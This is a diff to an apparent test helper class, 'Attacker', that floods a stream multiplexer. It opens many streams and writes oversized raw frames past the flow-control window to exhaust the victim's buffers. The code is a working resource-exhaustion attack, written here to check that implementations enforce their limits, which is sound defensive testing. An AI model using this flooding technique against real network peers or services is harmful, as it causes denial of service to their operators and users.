@@ -273,15 +273,16 @@ class Attacker:
         """Send more on a stream nobody reads than a connection may buffer."""
         await self.connect()
         for conn in self.conns():
-            for _ in range(20):
-                stream = await conn.muxed_conn.open_stream()
-                # Beyond its window: an honest muxer would wait.
-                with suppress(Exception):
-                    for _ in range(8):
-                        frame = b"\x00\x00\x00\x00" + stream.stream_id.to_bytes(4, "big")
-                        await conn.muxed_conn._write_frame(
-                            frame + (2**18).to_bytes(4, "big") + bytes(2**18)
-                        )
+            # The victim hangs up on the way.
+            with suppress(Exception):
+                for _ in range(20):
+                    stream = await conn.muxed_conn.open_stream()
+                    header = (
+                        bytes(4) + stream.stream_id.to_bytes(4, "big") + (2**18).to_bytes(4, "big")
+                    )
+                    for _ in range(32):
+                        # Beyond its window: an honest muxer would wait.
+                        await conn.muxed_conn._write_frame(header + bytes(2**18))
 
     # What a test asks for
 
